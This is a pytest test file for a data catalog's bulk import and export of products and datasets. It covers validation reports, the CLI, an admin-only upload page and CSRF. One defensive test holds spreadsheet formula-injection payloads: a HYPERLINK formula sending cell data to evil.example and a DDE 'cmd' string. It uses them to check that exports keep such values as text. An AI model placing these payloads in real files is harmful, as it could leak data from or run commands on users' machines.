"""Bulk import (issue 7): an export round-trips in CSV, XLSX and JSON; every row is checked first and
one bad row imports nothing, the report naming its line; ``catalog import`` exits non-zero when it
imports nothing; the upload page is for administrators, answers 422 with the report, and what it
imports is searchable at once."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import Engine, func
from sqlmodel import Session, select
from starlette.testclient import TestClient

from catalog import db
from catalog.accounts.models import Organization
from catalog.app import create_app
from catalog.audit.models import AuditEvent
from catalog.bulk_import import services as imports
from catalog.cli import main
from catalog.datasets.models import Dataset
from catalog.indexing.indexer import Indexer
from catalog.permissions import SYSTEM
from catalog.products.models import DataProduct
from catalog.registrations.models import Registration
from catalog.seeding import load_seed
from catalog.settings import Settings
from catalog.stats import exports
from tests.conftest import SEED_DIR, make_settings
from tests.factories import ADMIN, REVIEWER, csrf, make_user, sign_in

pytestmark = pytest.mark.both_backends  # the database decides: see the README's "Tests"

FORMATS = ("csv", "xlsx", "json")


# --- catalogs and files, built once ---------------------------------------------------------------
@pytest.fixture(scope="module")
def exported(seeded_template: Path) -> dict[tuple[str, str], bytes]:
    """Every export of the seeded catalog: (kind, format) -> bytes."""
    settings = make_settings(seeded_template)
    engine = db.make_engine(settings.database_url)
    with Session(engine) as session:
        files = {
            (kind, fmt): exports.export(session, SYSTEM, settings, kind, fmt)
            for kind in ("products", "datasets")
            for fmt in FORMATS
        }
    engine.dispose()
    return files


def _template(base: Path, seed_dir: Path, **options: bool) -> Path:
    data_dir = base / "var"
    settings = make_settings(data_dir)
    engine = db.make_engine(settings.database_url)
    db.migrate(engine)
    with db.session_scope(engine) as session:
        load_seed(session, SYSTEM, seed_dir, **options)
    Indexer(engine, settings.index_dir).catch_up()
    engine.dispose()
    return data_dir


@pytest.fixture(scope="module")
def bare_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A catalog with the sectors, licences and organizations of the seed, and no item."""
    seed = tmp_path_factory.mktemp("bare-seed")
    for name in ("sectors.yaml", "licences.yaml", "organizations.yaml"):
        shutil.copy(SEED_DIR / name, seed / name)
    return _template(tmp_path_factory.mktemp("bare"), seed)


@pytest.fixture(scope="module")
def no_products_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The seed catalog without its products."""
    return _template(tmp_path_factory.mktemp("no-products"), SEED_DIR, with_products=False)


def _copy(template: Path, tmp_path: Path, **env: str) -> Settings:
    shutil.copytree(template, tmp_path / "var")
    return make_settings(tmp_path / "var", **env)


@pytest.fixture
def no_products(no_products_template: Path, tmp_path: Path) -> Iterator[tuple[Settings, Engine]]:
    settings = _copy(no_products_template, tmp_path)
    engine = db.make_engine(settings.database_url)
    yield settings, engine
    engine.dispose()


def _products_csv(exported: dict[tuple[str, str], bytes]) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(exported["products", "csv"].decode("utf-8-sig")))
    return list(reader.fieldnames or []), list(reader)


def _csv(header: list[str], rows: list[dict[str, str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, header)
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")


def _import(engine: Engine, name: str, content: bytes, **options: Any) -> imports.ImportReport:
    with db.session_scope(engine) as session:
        return imports.import_file(session, SYSTEM, name, content, **options)


def _count(engine: Engine, model: type) -> int:
    with Session(engine) as session:
        return session.exec(select(func.count()).select_from(model)).one()


def _audit(engine: Engine) -> list[AuditEvent]:
    with Session(engine) as session:
        return list(session.exec(select(AuditEvent).where(AuditEvent.action == "catalog.import")))


def _as_json(engine: Engine, settings: Settings, kind: str) -> list[dict[str, Any]]:
    with Session(engine) as session:
        items = json.loads(exports.export(session, SYSTEM, settings, kind, "json"))
    for item in items:
        item.pop("updated_at")  # the moment of the import itself
    return items


# --- round trips ----------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_round_trips_into_a_catalog_without_those_items(
    fmt: str,
    exported: dict[tuple[str, str], bytes],
    bare_template: Path,
    seeded_template: Path,
    tmp_path: Path,
) -> None:
    settings = _copy(bare_template, tmp_path)
    engine = db.make_engine(settings.database_url)
    datasets = _import(engine, f"datasets.{fmt}", exported["datasets", fmt])
    products = _import(engine, f"products.{fmt}", exported["products", fmt])
    assert datasets.problems == [] and products.problems == []
    source_settings = make_settings(seeded_template)
    source = db.make_engine(source_settings.database_url)
    for kind, report in (("datasets", datasets), ("products", products)):
        before, after = _as_json(source, source_settings, kind), _as_json(engine, settings, kind)
        assert report.kind == kind and report.imported == len(before) > 50
        assert after == before  # every column, listing numbers, states and listing dates included
    assert [e.target_id for e in _audit(engine)] == ["datasets", "products"]
    with Session(engine) as session:  # a listed item imported was registered on its listing date
        listed = session.exec(select(DataProduct).where(DataProduct.status == "listed")).all()
        registered = session.exec(select(Registration).where(Registration.kind == "product")).all()
        firsts = {r.item_id: r for r in registered if r.act == "first"}
        assert {p.id for p in listed} <= set(firsts)
        assert all(firsts[p.id].valid_from == p.listed_at.date() for p in listed)  # type: ignore[union-attr]
    source.dispose()
    engine.dispose()


def test_the_cli_imports_an_export_and_says_how_many(
    exported: dict[tuple[str, str], bytes], no_products: tuple[Settings, Engine], tmp_path: Path
) -> None:
    settings, engine = no_products
    path = tmp_path / "products.csv"
    path.write_bytes(exported["products", "csv"])
    env = {"CATALOG_DATA_DIR": str(settings.data_dir)}
    checked = CliRunner().invoke(main, ["import", str(path), "--dry-run"], env=env)
    assert checked.exit_code == 0 and "every row can be imported" in checked.output
    assert _count(engine, DataProduct) == 0
    done = CliRunner().invoke(main, ["import", str(path), "--kind", "products"], env=env)
    total = len(_products_csv(exported)[1])
    assert done.exit_code == 0, done.output
    assert f"imported {total} products" in done.stdout and _count(engine, DataProduct) == total
    with Session(engine) as session:  # the CLI brought the search index up to date
        listed = session.exec(
            select(func.count()).select_from(DataProduct).where(DataProduct.status == "listed")
        ).one()
    assert listed > 200
    indexer = Indexer(engine, settings.index_dir)
    status = indexer.status()
    indexer.index.close()
    assert status["lag"] == 0 and status["documents"] >= listed
    again = CliRunner().invoke(main, ["import", str(path)], env=env)
    assert again.exit_code == 1 and f"{total} of {total} rows have problems" in again.stderr


# --- one bad row ----------------------------------------------------------------------------------
def test_one_bad_row_imports_nothing_and_the_report_names_its_physical_line(
    exported: dict[tuple[str, str], bytes], no_products: tuple[Settings, Engine]
) -> None:
    _, engine = no_products
    header, rows = _products_csv(exported)
    rows = rows[:6]
    rows[1]["description"] += "\n第二行。\n第三行。"  # a quoted cell over lines 3 to 5
    rows[3].update(license="no-such-licence", description=rows[3]["description"] + "\n第二行。")  # 7 to 8
    report = _import(engine, "products.csv", _csv(header, rows))
    assert [(p.line, p.column) for p in report.problems] == [(7, "license")]
    assert report.problems[0].text() == "No licence has the code no-such-licence."
    assert report.imported == 0 and report.bad_rows == 1 and report.rows == 6
    assert _count(engine, DataProduct) == 0 and _audit(engine) == []


def test_a_bad_row_of_a_workbook_or_a_json_file_is_named_by_its_row_or_line(
    exported: dict[tuple[str, str], bytes], no_products: tuple[Settings, Engine]
) -> None:
    _, engine = no_products
    book = load_workbook(io.BytesIO(exported["products", "xlsx"]))
    sheet = book.worksheets[0]
    column = list(exports.PRODUCT_COLUMNS).index("license") + 1
    sheet.cell(row=9, column=column, value="no-such-licence")
    sheet.delete_rows(40, sheet.max_row)  # a shorter file, the same rows above
    sheet.insert_rows(3, 2)  # two empty rows: the bad row is now row 11 of the sheet
    buffer = io.BytesIO()
    book.save(buffer)
    report = _import(engine, "products.xlsx", buffer.getvalue())
    assert [(p.line, p.column) for p in report.problems] == [(11, "license")]
    items = json.loads(exported["products", "json"])[:3]
    items[2]["license"] = "no-such-licence"
    text = json.dumps(items, ensure_ascii=False, indent=2)
    starts = [number for number, line in enumerate(text.splitlines(), start=1) if line == "  {"]
    report = _import(engine, "products.json", text.encode())
    assert [(p.line, p.column) for p in report.problems] == [(starts[2], "license")]
    assert starts[2] > 40 and _count(engine, DataProduct) == 0


def test_every_bad_row_is_reported_with_its_column(
    exported: dict[tuple[str, str], bytes], no_products: tuple[Settings, Engine]
) -> None:
    _, engine = no_products
    header, rows = _products_csv(exported)
    rows = rows[:5]
    rows[0]["provider"] = "nobody"
    rows[1]["usage_term_months"] = "a year"
    rows[2]["sectors"] = "industry;no-such-sector"
    rows[3]["schema"] = "[{"
    rows[4].update(provider="", provider_code="")
    report = _import(engine, "products.csv", _csv(header, rows))
    assert [(p.line, p.column) for p in report.problems] == [
        (2, "provider"),
        (3, "usage_term_months"),
        (4, "sectors"),
        (5, "schema"),
        (6, "provider"),
    ]
    assert "no-such-sector" in report.problems[2].text() and "JSON" in report.problems[3].text()
    assert _count(engine, DataProduct) == 0


def test_a_slug_twice_in_the_file_imports_nothing(
    exported: dict[tuple[str, str], bytes], no_products: tuple[Settings, Engine]
) -> None:
    _, engine = no_products
    header, rows = _products_csv(exported)
    rows = [rows[0], rows[1], {**rows[2], "id": rows[0]["id"], "listing_no": ""}]
    report = _import(engine, "products.csv", _csv(header, rows))
    assert [(p.line, p.column) for p in report.problems] == [(4, "id")]
    assert report.problems[0].text() == f"{rows[0]['id']} is also on line 2: each item once."
    assert _count(engine, DataProduct) == 0


def test_the_provider_is_found_by_its_credit_code_when_the_slug_is_left_out(
    exported: dict[tuple[str, str], bytes], no_products: tuple[Settings, Engine]
) -> None:
    _, engine = no_products
    header, rows = _products_csv(exported)
    slug = rows[0]["provider"]
    rows = [{**rows[0], "provider": ""}, rows[1]]
    mismatched = (
        [{**rows[1], "provider_code": rows[0]["provider_code"]}] if rows[1]["provider"] != slug else []
    )
    if mismatched:
        report = _import(engine, "products.csv", _csv(header, mismatched))
        assert [(p.line, p.column) for p in report.problems] == [(2, "provider_code")]
    assert _import(engine, "products.csv", _csv(header, rows)).imported == 2
    with Session(engine) as session:
        product = session.exec(select(DataProduct).where(DataProduct.slug == rows[0]["id"])).one()
        assert session.get(Organization, product.provider_id).slug == slug  # type: ignore[union-attr]


def test_a_product_keeps_the_listing_number_and_version_the_file_gives(
    exported: dict[tuple[str, str], bytes], no_products: tuple[Settings, Engine]
) -> None:
    _, engine = no_products
    header, rows = _products_csv(exported)
    listed = [r for r in rows if r["status"] == "listed"][:3]
    listed[0].update(listing_no="HADP-2024-0999", version="2.1")
    listed[1]["listing_no"] = ""  # numbered by the catalog, after the file's numbers
    listed[2]["listing_no"] = "HADP-24-1"
    report = _import(engine, "products.csv", _csv(header, listed))
    assert [(p.line, p.column) for p in report.problems] == [(4, "listing_no")]
    listed[2]["listing_no"] = "HADP-2024-0999"
    report = _import(engine, "products.csv", _csv(header, listed))
    assert [(p.line, p.column) for p in report.problems] == [(4, "listing_no")]
    assert "also on line 2" in report.problems[0].text()
    assert _import(engine, "products.csv", _csv(header, listed[:2])).imported == 2
    with Session(engine) as session:
        first, second = (
            session.exec(select(DataProduct).where(DataProduct.slug == r["id"])).one() for r in listed[:2]
        )
    assert (first.listing_no, first.version) == ("HADP-2024-0999", "2.1")
    assert second.listing_no and second.listing_no.startswith("HADP-") and second.version == "1.0"
    again = _import(engine, "products.csv", _csv(header, [{**listed[2], "listing_no": "HADP-2024-0999"}]))
    assert [p.text() for p in again.problems] == [
        "The catalog already has a product with the listing number HADP-2024-0999."
    ]


def test_a_file_of_unknown_columns_or_no_rows_imports_nothing(no_products: tuple[Settings, Engine]) -> None:
    _, engine = no_products
    header = ",".join(exports.DATASET_COLUMNS)
    empty = _import(engine, "datasets.csv", header.encode())
    assert [p.message for p in empty.problems] == ["The file holds no rows to import."]
    unknown = _import(engine, "datasets.csv", f"{header},titel\nHA-X-1\n".encode())
    assert [(p.line, p.column) for p in unknown.problems] == [(1, "titel")]
    neither = _import(engine, "x.csv", b"name,value\na,b\n")
    assert "choose the kind" in neither.problems[0].text()
    missing = _import(engine, "d.csv", b"code,title\nHA-X-1,t\n", kind="datasets")
    assert {p.column for p in missing.problems} >= {"provider", "sectors", "schema"}
    assert _count(engine, Dataset) == 64 and _audit(engine) == []


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [("empty.csv", b"", 1), ("broken.xlsx", b"PK\x03\x04 nothing", 1), ("bad.json", b'{"items": [1]}', 1)],
)
def test_the_cli_exits_non_zero_when_it_imports_nothing(
    name: str, content: bytes, code: int, no_products: tuple[Settings, Engine], tmp_path: Path
) -> None:
    settings, engine = no_products
    path = tmp_path / name
    path.write_bytes(content)
    result = CliRunner().invoke(main, ["import", str(path)], env={"CATALOG_DATA_DIR": str(settings.data_dir)})
    assert result.exit_code == code and "nothing was imported" in result.stderr
    assert _count(engine, DataProduct) == 0


# --- the upload page ------------------------------------------------------------------------------
@pytest.fixture
def page_settings(no_products_template: Path, tmp_path: Path) -> Settings:
    return _copy(no_products_template, tmp_path, CATALOG_MAX_UPLOAD_KB="256")


@pytest.fixture
def web(page_settings: Settings) -> Iterator[TestClient]:
    engine = db.make_engine(page_settings.database_url)  # a catalog of its own: the seeded accounts too
    make_user(engine, ADMIN, admin=True)
    make_user(engine, REVIEWER, reviewer=True)
    engine.dispose()
    with TestClient(create_app(page_settings), raise_server_exceptions=False) as client:
        client.cookies.set("lang", "en")  # the messages the tests look for
        yield client


def _upload(client: TestClient, name: str, content: bytes, **fields: str) -> Any:
    data = {"csrftoken": csrf(client, "/admin/import"), **fields}
    return client.post("/admin/import", data=data, files={"file": (name, content)})


def test_an_administrator_imports_on_the_page_and_the_listed_products_are_searchable(
    web: TestClient, exported: dict[tuple[str, str], bytes], page_settings: Settings
) -> None:
    sign_in(web, ADMIN)
    items = json.loads(exported["products", "json"])
    chosen = [i for i in items if i["status"] == "listed"][:3] + [i for i in items if i["status"] == "draft"][
        :1
    ]
    content = json.dumps({"items": chosen}, ensure_ascii=False, indent=2).encode()
    form = web.get("/admin/import")
    assert (
        form.status_code == 200
        and 'for="i-file"' in form.text
        and 'enctype="multipart/form-data"' in form.text
    )
    checked = _upload(web, "products.json", content, dry_run="1")
    assert checked.status_code == 200 and web.get("/api/v1/products").json()["total"] == 0
    answer = _upload(web, "products.json", content, kind="products")
    assert answer.status_code == 200, answer.text
    assert all(f'href="/products/{i["id"]}"' in answer.text for i in chosen)
    listed = web.get("/api/v1/products").json()
    assert sorted(p["id"] for p in listed["items"]) == sorted(i["id"] for i in chosen[:3])
    found = web.get("/api/v1/search", params={"q": chosen[0]["title"]}).json()
    assert chosen[0]["id"] in [p["id"] for p in found["products"]["items"]]
    engine = db.make_engine(page_settings.database_url)
    events = _audit(engine)
    assert len(events) == 1 and events[0].actor_label == ADMIN and events[0].after["count"] == 4  # type: ignore[index]
    engine.dispose()


def test_the_page_answers_422_with_the_report_and_imports_nothing(
    web: TestClient, exported: dict[tuple[str, str], bytes], page_settings: Settings
) -> None:
    sign_in(web, ADMIN)
    header, rows = _products_csv(exported)
    rows = rows[:4]
    rows[2]["price_model"] = "whatever-you-like"
    answer = _upload(web, "products.csv", _csv(header, rows))
    assert answer.status_code == 422
    assert re.search(r'<td class="mono">4</td><td class="mono">price_model</td>', answer.text)
    engine = db.make_engine(page_settings.database_url)
    assert _count(engine, DataProduct) == 0
    engine.dispose()
    for name, content, message in (
        ("notes.txt", b"hello", "Choose a CSV, XLSX or JSON file."),
        ("big.csv", b"code,title\n" + b"A,b\n" * 80_000, "larger than the upload limit"),
        ("broken.xlsx", b"PK\x03\x04 nothing", "could not be read"),
    ):
        refused = _upload(web, name, content)
        assert refused.status_code == 422 and message in refused.text, name


def test_the_page_is_for_administrators(web: TestClient) -> None:
    assert web.get("/admin/import", follow_redirects=False).status_code == 303  # to sign in
    sign_in(web, REVIEWER)
    assert web.get("/admin/import").status_code == 403
    data = {"csrftoken": csrf(web, "/login")}
    refused = web.post("/admin/import", data=data, files={"file": ("d.csv", b"code\nX\n")})
    assert refused.status_code == 403


def test_an_upload_without_the_csrf_token_is_refused(web: TestClient) -> None:
    sign_in(web, ADMIN)
    answer = web.post("/admin/import", files={"file": ("d.csv", b"code\nX\n")})
    assert answer.status_code == 403 and "CSRF" in answer.text


def test_the_json_export_is_a_list_of_objects_and_the_figures(
    exported: dict[tuple[str, str], bytes], seeded_template: Path
) -> None:
    items = json.loads(exported["products", "json"])
    assert set(items[0]) == set(exports.PRODUCT_COLUMNS) and isinstance(items[0]["sectors"], list)
    book = load_workbook(io.BytesIO(exported["products", "xlsx"]), read_only=True)
    header = next(book.worksheets[0].iter_rows(values_only=True))
    book.close()
    assert list(header) == list(exports.PRODUCT_COLUMNS)
    settings = make_settings(seeded_template)
    engine = db.make_engine(settings.database_url)
    with Session(engine) as session:
        figures = json.loads(exports.export(session, SYSTEM, settings, "stats", "json"))
    engine.dispose()
    assert figures["products"]["listed"] == sum(i["status"] == "listed" for i in items)


def test_formulas_stay_text_in_exports_and_round_trip(
    no_products: tuple[Settings, Engine], exported: dict[tuple[str, str], bytes]
) -> None:
    """An owner's title like =HYPERLINK(…) must not run in the spreadsheet of the officials who open
    the export: XLSX writes it as a text cell, CSV marks it as text, and the import takes it back."""
    settings, engine = no_products
    header, rows = _products_csv(exported)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    row = {**rows[0], "title": evil, "summary": "+cmd|' /C calc'!A0 用于测试的摘要", "listing_no": ""}
    assert _import(engine, "one.csv", _csv(header, [row])).imported == 1
    with Session(engine) as session:
        again_exported = {
            fmt: exports.export(session, SYSTEM, settings, "products", fmt) for fmt in ("csv", "xlsx")
        }
    text = again_exported["csv"].decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'+cmd" in text  # marked as text for spreadsheets
    book = load_workbook(io.BytesIO(again_exported["xlsx"]))
    sheet = book.worksheets[0]
    titles = [c for c in sheet["C"] if c.value == evil]
    assert titles and all(c.data_type == "s" for c in titles)  # a text cell, not a formula
    with db.session_scope(engine) as session:
        session.delete(session.exec(select(DataProduct).where(DataProduct.title == evil)).one())
    again = _import(engine, "again.csv", again_exported["csv"])
    assert again.imported == 1, [p.text() for p in again.problems]
    with Session(engine) as session:
        product = session.exec(select(DataProduct)).one()
    assert product.title == evil and product.summary.startswith("+cmd")


def test_rows_a_database_cannot_hold_or_that_name_a_suspended_provider_are_reported(
    no_products: tuple[Settings, Engine], exported: dict[tuple[str, str], bytes]
) -> None:
    _, engine = no_products
    header, rows = _products_csv(exported)
    listed = next(r for r in rows if r["status"] == "listed")
    ancient = {**listed, "listing_no": "", "listed_at": "0001-01-01"}
    future = {**listed, "id": "from-the-future", "listing_no": "", "listed_at": "2099-06-01"}
    report = _import(engine, "dates.csv", _csv(header, [ancient, future]))
    assert report.imported == 0 and {p.line for p in report.problems} == {2, 3}
    items = json.loads(exported["products", "json"])
    odd = {**items[0], "provider": ["not", "text"], "listing_no": None}
    report = _import(engine, "odd.json", json.dumps([odd], ensure_ascii=False).encode())
    assert report.imported == 0 and any(p.column == "provider" for p in report.problems)
    datasets = json.loads(exported["datasets", "json"])
    huge = {**datasets[0], "code": "ZZ-HUGE-1", "record_count": 2**64}
    report = _import(engine, "huge.json", json.dumps([huge], ensure_ascii=False).encode())
    assert report.imported == 0 and any(p.column == "record_count" for p in report.problems)
    with db.session_scope(engine) as session:
        org = session.exec(select(Organization).where(Organization.slug == listed["provider"])).one()
        org.suspended = True
    report = _import(engine, "suspended.csv", _csv(header, [{**listed, "listing_no": ""}]))
    assert report.imported == 0 and [p.column for p in report.problems] == ["provider"]


@pytest.mark.parametrize("fmt", ["csv", "json"])  # a workbook cannot hold U+0000 (openpyxl refuses it)
def test_a_nul_character_in_a_cell_is_reported_on_every_backend(
    seeded_engine: Engine, exported: dict[tuple[str, str], bytes], fmt: str
) -> None:
    """PostgreSQL can neither store nor compare text holding U+0000: the row is reported, not a 500."""
    before = _count(seeded_engine, DataProduct)
    if fmt == "json":
        item = {**json.loads(exported["products", "json"])[0], "id": "nul", "listing_no": None}
        content = json.dumps([{**item, "title": "淮安\x00公交客流"}], ensure_ascii=False, indent=1).encode()
    else:
        header, rows = _products_csv(exported)
        content = _csv(header, [{**rows[0], "id": "nul", "listing_no": "", "title": "淮安\x00公交客流"}])
    report = _import(seeded_engine, f"nul.{fmt}", content)
    assert report.imported == 0
    assert [(p.line, p.column) for p in report.problems] == [(2, "title")]
    assert "NUL" in report.problems[0].text()
    assert _count(seeded_engine, DataProduct) == before
